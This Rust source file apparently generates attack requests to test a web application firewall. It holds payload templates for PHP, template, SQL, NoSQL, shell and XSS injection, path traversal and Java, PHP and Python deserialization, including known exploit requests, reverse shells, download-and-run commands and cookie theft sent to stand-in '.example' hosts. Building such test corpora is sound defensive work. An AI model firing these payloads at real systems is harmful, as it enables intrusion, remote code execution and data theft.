//! Injections of every language, spelled as hand-made exploits spell them rather than as text books do.

use medward_waf::AttackClass;

use super::super::attack::{AttackGrammar, payload, request};
use super::super::codec;
use super::super::encode::Encoding;
use super::super::place::Place;
use super::super::rng::Rng;
use super::super::wire::{FORM, JSON, Part, Wire, multipart};

const PLAIN: &[Encoding] =
    &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent, Encoding::JsonEscape, Encoding::Base64];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload("php-inventions", AttackClass::Php, 40, php, Place::PARAMETERS, PLAIN),
    request("php-exploits", AttackClass::Php, 28, php_exploits),
    payload("ssti-inventions", AttackClass::Ssti, 44, ssti, Place::PARAMETERS, PLAIN),
    payload(
        "traversal-inventions",
        AttackClass::Traversal,
        40,
        traversal,
        &[Place::Query, Place::Form, Place::Json, Place::Cookie, Place::Multipart, Place::Header],
        PLAIN,
    ),
    request("traversal-exploits", AttackClass::Traversal, 30, traversal_exploits),
    payload("xpath-inventions", AttackClass::Xpath, 30, xpath, Place::INPUTS, PLAIN),
    request("deser-exploits", AttackClass::Deser, 32, deser),
    payload("sqli-inventions", AttackClass::Sqli, 44, sqli, Place::PARAMETERS, PLAIN),
    payload("nosql-inventions", AttackClass::Sqli, 24, nosql, Place::INPUTS, &[Encoding::Plain, Encoding::Percent]),
    payload("shell-inventions", AttackClass::Shell, 44, shell, Place::PARAMETERS, PLAIN),
    payload("xss-inventions", AttackClass::Xss, 40, xss, Place::PARAMETERS, PLAIN),
    request("base64-in-headers", AttackClass::Shell, 24, base64_headers),
];

fn php(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let number = rng.below(9999);
    match rng.below(24) {
        0 => format!("${{@print(md5({number}))}}"),
        1 => format!("{{${{phpinfo()}}}}{word}"),
        2 => format!("';system('id {word}');//"),
        3 => format!("\".passthru('cat /etc/{word}').\""),
        4 => format!("1);eval($_POST['{word}']);die("),
        5 => format!("<?=`$_GET[{word}]`?>"),
        6 => format!("<?php @eval($_REQUEST['{word}']);?>"),
        7 => format!("<script language=\"php\">system('{word}');</script>"),
        8 => format!("php://filter/read=convert.base64-encode|string.rot13/resource=index.php&{word}"),
        9 => format!("php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=/tmp/{word}"),
        10 => format!("data://text/plain;base64,{}", codec::base64(format!("<?php system('{word}');"))),
        11 => format!("phar://./uploads/{word}.jpg/{word}.php"),
        12 => format!("expect://id{word}"),
        13 => format!("zip://uploads/{word}.zip%23{word}.php"),
        14 => format!("compress.zlib://http://{word}.example/s.gz"),
        15 => format!("(sy.(st).em)('id {word}');"),
        16 => format!("call_user_func('assert','print({number})')"),
        17 => format!("array_map('system',['id {word}'])"),
        18 => format!("create_function('','}}system(\"{word}\");//')"),
        19 => format!("$a='ass'.'ert';$a($_POST[{word}]);"),
        20 => format!("GLOBALS[{word}]=1;print_r(scandir('/'));"),
        21 => format!("\\\\{word}.example\\share\\{word}.php"),
        22 => format!("//10.1.2.{}/share/{word}.php", number % 250),
        _ => format!("${{system(chr(105).chr(100))}}{word}"),
    }
    .into_bytes()
}

fn php_exploits(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(5);
    let number = rng.below(99_999);
    let (wire, place) = match rng.below(20) {
        0 => (Wire::get(format!("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]={number}")), Place::Query),
        1 => (Wire::get(format!("/index.php?s=index/\\think\\Container/invokefunction&function=call_user_func&vars[0]=phpinfo&vars[1]={number}")), Place::Query),
        2 => (Wire::post("/index.php?s=captcha", FORM, format!("_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id+{word}")), Place::Form),
        3 => (Wire::get(format!("/index.php?lang=../../../../../usr/local/lib/php/pearcmd&+config-create+/<?=md5({number})?>+/tmp/{word}.php")), Place::Query),
        4 => (Wire::post("/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", FORM, format!("form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]={word}")), Place::Form),
        5 => (Wire::post("/_ignition/execute-solution", JSON, format!("{{\"solution\":\"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution\",\"parameters\":{{\"variableName\":\"{word}\",\"viewFile\":\"phar:///var/www/storage/logs/laravel.log/x.txt\"}}}}")), Place::Json),
        6 => (Wire::post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "text/html", format!("<?php echo md5({number});?>")), Place::Body),
        7 => (Wire::post("/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", FORM, format!("<?php echo {number};?>")), Place::Query),
        8 => (Wire::post(format!("/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input+-n&{word}"), FORM, format!("<?php die(md5({number}));?>")), Place::Query),
        9 => (Wire::get(format!("/index.php?a=fetch&templateFile=public/index&prefix=''&content=%3Cphp%3Efile_put_contents('{word}.php','%3C%3Fphp%20phpinfo();')%3C/php%3E")), Place::Query),
        10 => (Wire::post("/ajax/render/widget_tabbedcontainer_tab_panel", FORM, format!("subWidgets[0][template]=widget_php&subWidgets[0][config][code]={}", codec::form(format!("echo shell_exec('{word}'); exit;")))), Place::Form),
        11 => (Wire::get(format!("/index.php?m=--%3E%3C?=print_r(md5({number}));?%3E")), Place::Query),
        12 => (Wire::post("/plus/mytag_js.php?aid=9527", FORM, format!("mybody={}", codec::form(format!("{{dede:php}}file_put_contents('{word}.php','x');{{/dede:php}}")))), Place::Form),
        13 => (Wire::post("/search.php", FORM, format!("searchtype=5&searchword={{if{{searchpage:year}}&year=:e{{searchpage:area}}}}&area=v{{searchpage:letter}}&letter=al{{searchpage:lang}}&yuyan=(join{{searchpage:jq}}&jq=($_P{{searchpage:ver}}&&ver=OST[9]))&9[]=ph&9[]=pinfo({number});")), Place::Form),
        14 => (Wire::get(format!("/wp-content/plugins/x/inc/ajax.php?action=run&callback=system&arg=id%20{word}")), Place::Query),
        15 => (Wire::get(format!("/{word}.php")).header("Accept-Charset", codec::base64(format!("echo system('whoami /{word}');"))).header("Accept-Encoding", "gzip,deflate"), Place::Header),
        16 => (Wire::get("/").header("User-Agentt", format!("zerodiumsystem('cat /etc/{word}');")), Place::Header),
        17 => (Wire::get(format!("/?{word}=1")).header("User-Agent", format!("<?php system($_GET['{word}']); ?>")), Place::Header),
        18 => (Wire::get("/forumdata/").header("Cookie", format!("GLOBALS%5B_DCACHE%5D%5Bsmilies%5D%5Bsearcharray%5D=/.*/eui;GLOBALS%5B_DCACHE%5D%5Bsmilies%5D%5Breplacearray%5D=phpinfo();{word}")), Place::Cookie),
        _ => (Wire::get(format!("/{word}?x=1")).header("X-Forwarded-For", format!("127.0.0.1' . system('{word}') . '")), Place::Header),
    };
    (wire.desktop(rng).finish(rng), place, Encoding::Plain)
}

fn ssti(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let (left, right) = (rng.between(11, 999), rng.between(11, 999));
    match rng.below(32) {
        0 => format!("{{{{lipsum.__globals__['os'].popen('{word}').read()}}}}"),
        1 => format!("{{{{cycler.__init__.__globals__.os.popen('{word}').read()}}}}"),
        2 => "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}".to_owned() + &word,
        3 => format!("{{% for x in ().__class__.__base__.__subclasses__() %}}{word}{{% endfor %}}"),
        4 => "{{config.items()}}".to_owned() + &word,
        5 => format!("{{{{self._TemplateReference__context}}}}{word}"),
        6 => format!("{{{{['{word}']|filter('system')}}}}"),
        7 => format!("{{{{_self.env.registerUndefinedFilterCallback('exec')}}}}{{{{_self.env.getFilter('{word}')}}}}"),
        8 => format!("{{{{{left}*{right}}}}}"),
        9 => format!("${{{left}*{right}}}"),
        10 => format!("#{{{left}*{right}}}"),
        11 => format!("<%= {left} * {right} %>"),
        12 => format!("{{{left}*{right}}}"),
        13 => format!("*{{{left}*{right}}}"),
        14 => format!("@({left}*{right})"),
        15 => format!("[[${{{left}*{right}}}]]"),
        16 => format!("[#assign {word}='freemarker.template.utility.Execute'?new()]${{{word}('id')}}"),
        17 => format!("${{\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"{word}\").start()}}"),
        18 => format!("#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"exec\",\"{word}\")"),
        19 => format!("{{system('{word}')}}"),
        20 => format!("{{php}}echo `{word}`;{{/php}}"),
        21 => format!("{{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"{word}\",self::clearConfig())}}"),
        22 => format!("${{self.module.cache.util.os.system(\"{word}\")}}"),
        23 => format!("<%import os;x=os.popen('{word}').read()%>${{x}}"),
        24 => format!("{{{{#with \"s\" as |string|}}}}{{{{#with \"constructor\"}}}}{{{{lookup string.sub \"{word}\"}}}}{{{{/with}}}}{{{{/with}}}}"),
        25 => format!("{{{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert({left})');}}}}"),
        26 => format!("<%= system(\"{word}\") %>"),
        27 => format!("<%= File.open('/etc/{word}').read %>"),
        28 => format!("{{% set cmd='{word}' %}}{{% set b=(1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null) %}}"),
        29 => format!("__${{T(java.lang.Runtime).getRuntime().exec(\"{word}\")}}__::x"),
        30 => format!("{{{{''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval('{word}')}}}}"),
        _ => format!("{{$smarty.version}}{{$smarty.template_object->smarty->disableSecurity()->display('string:{{system({word})}}')}}"),
    }
    .into_bytes()
}

fn traversal(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(5);
    let up = "../".repeat(rng.between(2, 7));
    let back = "..\\".repeat(rng.between(2, 7));
    match rng.below(22) {
        0 => format!("{up}{word}/{word}.conf"),
        1 => format!("{back}{word}.ini"),
        2 => format!("/{up}etc/passwd\0.{word}"),
        3 => format!("....//....//....//{word}/config.php"),
        4 => format!("..././..././..././etc/{word}"),
        5 => format!(".|./.|./.|./etc/{word}"),
        6 => format!("{}etc/{word}", "..%c0%af".repeat(4)),
        7 => format!("{}etc/{word}", "..%252f".repeat(4)),
        8 => format!("file:/etc/{word}"),
        9 => "file://localhost/etc/passwd?".to_owned() + &word,
        10 => format!("/var/www/html/{word}/../../../../etc/issue"),
        11 => "C:/Windows/System32/inetsrv/config/applicationHost.config?".to_owned() + &word,
        12 => format!("C:\\inetpub\\wwwroot\\{word}\\web.config"),
        13 => format!("\\\\127.0.0.1\\c$\\{word}\\boot.ini"),
        14 => format!("/proc/{}/environ", rng.between(1, 9000)),
        15 => format!("/home/{word}/.ssh/id_rsa"),
        16 => format!("/usr/local/tomcat/conf/tomcat-users.xml;{word}"),
        17 => format!("{up}WEB-INF/classes/{word}.class"),
        18 => format!("./{up}{up}root/{word}/.bashrc"),
        19 => format!("{word}.jsp%00.jpg"),
        20 => format!("netdoc:///etc/{word}"),
        _ => format!("\\..\\..\\..\\..\\{word}\\{word}.log"),
    }
    .into_bytes()
}

fn traversal_exploits(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(5);
    let path = match rng.below(20) {
        0 => format!("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/{word}"),
        1 => format!("/icons/.%%32%65/.%%32%65/.%%32%65/etc/{word}"),
        2 => format!("/static/../../../{word}/settings.py"),
        3 => format!("/assets/file:%2f%2f/etc/{word}"),
        4 => format!("/..%252f..%252f..%252f{word}.yml"),
        5 => format!("/download/..;/..;/..;/WEB-INF/{word}.xml"),
        6 => format!("/images..%2f..%2f{word}.conf"),
        7 => format!("/static..%5c..%5c..%5c{word}.ini"),
        8 => format!("/i../{word}.key"),
        9 => format!("/{word}/.%00./.%00./etc/issue"),
        10 => "/spring-cloud-config/master/..%252F..%252F..%252Fetc/hosts?".to_owned() + &word,
        11 => format!("/resource/{word}/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/group"),
        12 => format!("/%e5%98%8a/..%5c..%5cwindows%5c{word}"),
        13 => format!("/s/{word}/_/;/WEB-INF/decorators.xml"),
        14 => format!("/theme/META-INF/%c0%ae%c0%ae/{word}.xml"),
        15 => format!("/nacos/..%2f..%2f..%2f{word}.properties"),
        16 => format!("/@fs/etc/{}?raw??{word}", rng.pick(&["passwd", "hosts", "hostname", "group"])),
        17 => format!("/node_modules/../../../../{word}/.env"),
        18 => format!("/a/b/%uff0e%uff0e/%uff0e%uff0e/etc/{word}"),
        _ => format!("/wp-content/plugins/{word}/download.php/../../../../wp-config.php"),
    };
    let wire = Wire::get(path);
    (wire.desktop(rng).finish(rng), Place::Path, Encoding::Plain)
}

fn xpath(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let number = rng.below(20);
    match rng.below(18) {
        0 => format!("' or '1'='1' or '{word}'='{word}"),
        1 => format!("{word}' or 1=1 or ''='"),
        2 => format!("'] | //user/*[contains(*,'{word}"),
        3 => format!("{word}' and count(/*)={number} and 'a'='a"),
        4 => format!("' or name(/*[1])='{word}' or 'a'='b"),
        5 => format!("{word}' and substring(//user[position()={number}]/child::node()[1],1,1)='a"),
        6 => format!("' and string-length(name(parent::*))>{number} and '1'='1"),
        7 => format!("\"] | //*[\"{word}\"=\""),
        8 => format!("{word}'] | /* | /foo[bar='"),
        9 => format!("1 or count(//{word})>{number}"),
        10 => format!("' or contains(name,'{word}') or '"),
        11 => format!("{word}') or true() or ('"),
        12 => format!("' or position()={number} or '"),
        13 => format!("') or starts-with(//password,'{word}') or ('"),
        14 => format!("{word}' or doc('http://{word}.example/')='"),
        15 => format!("' and doc(concat('http://{word}.example/',//user[1]/password)) or '1'='1"),
        16 => format!("..//{word}/ancestor-or-self::node()|//password"),
        _ => format!("*[local-name()='{word}']/following-sibling::*[{number}]|//*"),
    }
    .into_bytes()
}

/// The start of a Hessian call whose argument is a map with a gadget as its key.
fn hessian(rng: &mut Rng) -> Vec<u8> {
    let class = rng.pick(&[
        "com.sun.rowset.JdbcRowSetImpl",
        "sun.swing.SwingLazyValue",
        "com.rometools.rome.feed.impl.EqualsBean",
        "org.springframework.aop.support.DefaultBeanFactoryPointcutAdvisor",
        "com.caucho.naming.QName",
        "org.apache.xbean.naming.context.ContextUtil$ReadOnlyBinding",
    ]);
    let mut bytes = rng.pick(&[b"c\x02\x00H".as_slice(), b"c\x01\x00m\x00\x04test", b"H\x02\x00C"]).to_vec();
    bytes.extend_from_slice(b"Mt\x00");
    bytes.push(class.len().to_le_bytes()[0]);
    bytes.extend_from_slice(class.as_bytes());
    bytes.extend_from_slice(b"S\x00\x0adataSourceS\x00\x1aldap://");
    bytes.extend_from_slice(rng.letters(9).as_bytes());
    bytes.extend_from_slice(b".example/az");
    bytes
}

fn deser(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(5);
    let stream = |class: &str| {
        [
            b"\xac\xed\x00\x05sr\x00".as_slice(),
            &[class.len().to_le_bytes()[0]],
            class.as_bytes(),
            b"\x01\x02\x03\x04\x05\x06\x07\x08\x03\x00\x01xp",
        ]
        .concat()
    };
    let (wire, place) = match rng.below(22) {
        0 => (Wire::post("/hessian/service", "x-application/hessian", hessian(rng)), Place::Body),
        1 => (Wire::post("/remoting/api", "application/octet-stream", hessian(rng)), Place::Body),
        2 => (Wire::post("/invoker/JMXInvokerServlet", "application/x-java-serialized-object", stream("org.jboss.invocation.MarshalledInvocation")), Place::Body),
        3 => (Wire::post(format!("/faces/{word}.xhtml"), FORM, format!("javax.faces.ViewState={}", codec::form(codec::base64(stream("java.util.PriorityQueue"))))), Place::Form),
        4 => (Wire::get(format!("/{word}")).header("Cookie", format!("user={}", codec::percent(codec::base64(stream("java.util.HashSet"))))), Place::Cookie),
        5 => (Wire::get(format!("/{word}")).header("X-Session", codec::base64(codec::gzip(&stream("java.util.HashMap")))), Place::Header),
        6 => (Wire::post("/api/json", JSON, format!("{{\"x\":{{\"@type\":\"java.net.Inet4Address\",\"val\":\"{word}.example\"}}}}")), Place::Json),
        7 => (Wire::post("/api/json", JSON, format!("{{\"a\":{{\"\\u0040type\":\"org.apache.tomcat.dbcp.dbcp2.BasicDataSource\",\"driverClassName\":\"$$BCEL$$$l$8b{word}\"}}}}")), Place::Json),
        8 => (Wire::post("/api/json", JSON, format!("[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{{\"url\":\"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://{word}.example/a.sql'\"}}]")), Place::Json),
        9 => (Wire::post("/jdbc/test", JSON, format!("{{\"url\":\"jdbc:mysql://{word}.example:3306/t?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor\"}}")), Place::Json),
        10 => (Wire::post("/jdbc/test", FORM, format!("url={}", codec::form(format!("jdbc:postgresql://a/b?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://{word}.example/x.xml")))), Place::Form),
        11 => (Wire::post("/jdbc/test", JSON, format!("{{\"jdbcUrl\":\"jdbc:h2:mem:t;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE ALIAS X AS 'void e(String c) throws Exception{{Runtime.getRuntime().exec(c);}}'\\\\;CALL X('{word}')\"}}")), Place::Json),
        12 => (Wire::get(format!("/{word}")).header("Cookie", format!("data={}", codec::percent(format!("O:8:\"Monolog\\{word}\":1:{{s:1:\"a\";s:2:\"id\";}}")))), Place::Cookie),
        13 => (Wire::get(format!("/p?d={}", codec::percent(codec::base64(format!("a:1:{{i:0;O:4:\"{}\":1:{{s:1:\"x\";i:1;}}}}", &word[..4]))))), Place::Query),
        14 => (Wire::post("/unpickle", "application/octet-stream", format!("\u{0}cposix\nsystem\n(S'id {word}'\ntR.").into_bytes().split_off(1)), Place::Body),
        15 => (Wire::get(format!("/p?s={}", codec::percent(codec::base64(format!("cos\nsystem\n(S'ping {word}'\ntR."))))), Place::Query),
        16 => (Wire::post("/xstream", "application/xml", format!("<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class='com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data'/></jdk.nashorn.internal.objects.NativeString><string>{word}</string></entry></map>")), Place::Xml),
        17 => (Wire::post("/wls-wsat/CoordinatorPortType", "text/xml", format!("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>{word}</string></void></array><void method=\"start\"/></void></java></work:WorkContext></soapenv:Header></soapenv:Envelope>")), Place::Xml),
        18 => (Wire::post("/yaml", "application/x-yaml", format!("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{word}.example/\"]]]]")), Place::Body),
        19 => (Wire::post("/spel", JSON, format!("{{\"bean\":{{\"class\":\"org.springframework.context.support.FileSystemXmlApplicationContext\",\"args\":[\"http://{word}.example/a.xml\"]}}}}")), Place::Json),
        20 => (Wire::post("/page.aspx", FORM, format!("__VIEWSTATE={}", codec::form(codec::base64([b"\xff\x01\x32".as_slice(), b"\xfd\x02\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00^Microsoft.PowerShell.Editor, Version=3.0.0.0", word.as_bytes()].concat())))), Place::Form),
        _ => {
            let (kind, body) = multipart(&[Part::file("file", "a.ser", "application/octet-stream", stream("java.util.LinkedHashSet"))], rng);
            (Wire::post(format!("/import/{word}"), &kind, body), Place::Multipart)
        }
    };
    (wire.program("Java/1.8.0_311").finish(rng), place, Encoding::Plain)
}

fn sqli(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let number = rng.between(1, 99);
    match rng.below(32) {
        0 => "' or true--".to_owned() + &word,
        1 => format!("{word}' or 1 -- {word}"),
        2 => "'='".to_owned(),
        3 => "'-'".to_owned() + rng.pick(&["", " "]),
        4 => "'^'".to_owned() + rng.pick(&["", "0"]),
        5 => format!("{word}'||'"),
        6 => format!("{word}', password=MD5('{number}'), role='admin' WHERE name='admin'#"),
        7 => format!("x', is_admin=1, note='{word}"),
        8 => format!("{word}'),('admin','{word}','1')-- "),
        9 => format!("{number} and if(1=1,sleep({number}),0)"),
        10 => format!("{number} rlike (select (case when ({number}={number}) then 1 else 0x28 end))"),
        11 => format!("{number}) procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
        12 => format!("{number};declare @q varchar(99);set @q='\\\\{word}.example\\a';exec master..xp_dirtree @q"),
        13 => format!("{word}';copy (select '') to program 'nslookup {word}.example'--"),
        14 => format!("{number} union/**/all/**/select null,{number},@@version#"),
        15 => format!("{number}/**/and/**/ascii(substr((select/**/user()),{number},1))>64"),
        16 => format!("if(now()=sysdate(),sleep({number}),0)"),
        17 => format!("(select*from(select(sleep({number})))a)"),
        18 => format!("{number}'XOR(if(now()=sysdate(),sleep({number}),0))XOR'Z"),
        19 => format!("(case when ({number}={number}) then id else name end)"),
        20 => format!("id,(select 1 from pg_sleep({number}))"),
        21 => format!("1||utl_http.request('http://{word}.example/'||(select user from dual))"),
        22 => format!("{number} and 1=dbms_pipe.receive_message('{word}',{number})"),
        23 => format!("{word}\" or \"\"=\""),
        24 => format!("{word}\\' or 1=1 #"),
        25 => format!("%df' or 1=1 limit {number} -- "),
        26 => format!("{number} or updatexml(1,concat(0x7e,(select database())),{number})"),
        27 => format!("{number} group by x having 1=1-- {word}"),
        28 => format!("{number} order by {}--+", rng.between(10, 99)),
        29 => format!("-{number}' union select 1,2,group_concat(table_name) from information_schema.tables where table_schema=database()-- "),
        30 => format!("{word}' and (select count(*) from sysobjects)>{number} and ''='"),
        _ => format!("{word}'/*!50000union*//*!50000select*/{number},user()-- -"),
    }
    .into_bytes()
}

fn nosql(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let number = rng.between(100, 9000);
    match rng.below(10) {
        0 => format!("';var d=new Date();do{{c=new Date();}}while(c-d<{number});var {word}='"),
        1 => format!("0;var date=new Date(); do{{curDate = new Date();}}while(curDate-date<{number})"),
        2 => format!("' || this.{word}.match(/^a.*/) || '"),
        3 => format!("'; return true; var {word}='"),
        4 => format!("{word}' && this.password.length>{} || 'a'=='b", number % 20),
        5 => format!("{{\"$where\":\"sleep({number}) || '{word}'\"}}"),
        6 => format!("{{\"${}\":\"{word}\"}}", rng.pick(&["ne", "gt", "regex", "nin"])),
        7 => format!("';sleep({number});var {word}='"),
        8 => format!("' || '1'=='1' && this.{word} || '"),
        _ => format!("true, $where: '1 == 1', {word}: 1"),
    }
    .into_bytes()
}

fn shell(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(5);
    let number = rng.between(2, 99);
    match rng.below(30) {
        0 => "||$(ps aux)||".to_owned() + &word,
        1 => format!("{word}$(id)"),
        2 => format!("{word}`id`{number}"),
        3 => format!("\"$(whoami).{word}.example\""),
        4 => format!("w`u`h`u`o`u`a`u`m`u`i;{word}"),
        5 => format!("a{word};w'h'o'a'mi"),
        6 => format!("8.8.8.8;/???/c?t${{IFS}}/???/p??s??;{word}"),
        7 => format!("127.0.0.1 && ping -c {number} {word}.example"),
        8 => format!("| nslookup {word}.example"),
        9 => format!(";curl${{IFS}}{word}.example|sh"),
        10 => format!("{word}%0acat%20/etc/hosts"),
        11 => format!("{word}\ncat /etc/{word}\n"),
        12 => format!("$(printf '\\151\\144'){word}"),
        13 => format!("{{cat,/etc/{word}}}"),
        14 => format!(";{{echo,{}}}|{{base64,-d}}|bash", codec::base64(format!("ping {word}"))),
        15 => format!("a;bash -i >& /dev/tcp/10.0.0.{number}/4444 0>&1"),
        16 => format!("x;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.{number} 99 >/tmp/f"),
        17 => format!("& certutil -urlcache -split -f http://{word}.example/a.exe a.exe & a.exe"),
        18 => format!("| powershell -nop -w hidden -enc {}", codec::base64(codec::utf16_le(&format!("iex {word}")))),
        19 => format!("\"; mshta http://{word}.example/a.hta; \""),
        20 => format!("'; wget http://{word}.example/x -O /tmp/x; chmod 777 /tmp/x; '"),
        21 => format!("-oProxyCommand=curl {word}.example"),
        22 => format!("--upload-pack=`id>{word}`"),
        23 => format!("--use-compress-program='id {word}'"),
        24 => format!("{word}.jpg\" -write \"|id"),
        25 => format!("push graphic-context\nfill 'url(https://a\"|id \"{word})'\npop graphic-context"),
        26 => format!("sleep {number}|{word}"),
        27 => format!("`sleep {number}`{word}"),
        28 => format!("1;expr {number}{number} \\* {number}"),
        _ => format!("a=i;b=d;$a$b>/tmp/{word}"),
    }
    .into_bytes()
}

fn xss(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let number = rng.between(1, 99);
    match rng.below(28) {
        0 => format!("';new Image().src='//{word}.example/?'+document.cookie;'"),
        1 => format!("\";fetch('//{word}.example/'+document.cookie);//"),
        2 => format!("'-alert({number})-'"),
        3 => format!("\\';alert({number});//"),
        4 => format!("</script><script src=//{word}.example></script>"),
        5 => format!("+ADw-script+AD4-alert({number})+ADw-/script+AD4-"),
        6 => format!("<img src=x onerror=alert`{number}`>"),
        7 => format!("<details open ontoggle=alert({number})>"),
        8 => format!("\" autofocus onfocus=alert({number}) x=\"{word}"),
        9 => format!("javascript:/*{word}*/alert({number})//"),
        10 => format!("java\tscript:alert({number})"),
        11 => format!("<svg><animate onbegin=alert({number}) attributeName=x>"),
        12 => format!("<a href=\"&#106;avascript:alert({number})\">{word}</a>"),
        13 => format!("data:text/html;base64,{}", codec::base64(format!("<script>alert({number})</script>"))),
        14 => format!("<iframe srcdoc=\"&lt;script&gt;alert({number})&lt;/script&gt;\">"),
        15 => format!("<object data=\"javascript:alert({number})\">"),
        16 => format!("<math><mtext></form><form><mglyph><style></math><img src onerror=alert({number})>"),
        17 => format!("<base href=//{word}.example/>"),
        18 => format!("${{alert({number})}}{word}"),
        19 => format!("';location='http://{word}.example/'+document.cookie;'"),
        20 => format!("\"onmouseover=\"prompt({number})\" {word}=\""),
        21 => format!("<meta http-equiv=refresh content=\"0;url=javascript:alert({number})\">"),
        22 => format!("<x onclick=top['al'+'ert']({number})>{word}"),
        23 => format!("[{word}](javascript:alert({number}))"),
        24 => format!("<video><source onerror=\"setTimeout('ale'+'rt({number})')\">"),
        25 => format!("';window['ale'+'rt']({number});'"),
        26 => format!("<style>@import'//{word}.example';</style>"),
        _ => format!("1;document.body.innerHTML='<h1>{word}</h1>'"),
    }
    .into_bytes()
}

/// Base64 that the application itself decodes: credentials, tokens and short parameters.
fn base64_headers(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(4);
    let attack = match rng.below(8) {
        0 => format!("{word};id"),
        1 => format!(";cat /etc/{word}"),
        2 => format!("$(id>{word})"),
        3 => format!("`id {word}`"),
        4 => format!("admin|wget http://{word}.example"),
        5 => format!("';ping -c 3 {word}.example;'"),
        6 => format!("|id {word}"),
        _ => format!("a&&whoami&&{word}"),
    };
    let (wire, place) = match rng.below(5) {
        0 => (
            Wire::get("/cgi-bin/status")
                .header("Authorization", format!("Basic {}", codec::base64(format!("{attack}:{word}")))),
            Place::Header,
        ),
        1 => (
            Wire::get("/api/v1/info")
                .header("Authorization", format!("Basic {}", codec::base64(format!("admin:{attack}")))),
            Place::Header,
        ),
        2 => (Wire::get("/cgi-bin/nas?cmd=15").header("X-Command", codec::base64(&attack)), Place::Header),
        3 => (Wire::get(format!("/cgi-bin/run?c={}", codec::percent(codec::base64(&attack)))), Place::Query),
        _ => (
            Wire::get("/index").header("Cookie", format!("cmd={}", codec::percent(codec::base64(&attack)))),
            Place::Cookie,
        ),
    };
    (wire.program("Mozilla/5.0").finish(rng), place, Encoding::Base64)
}
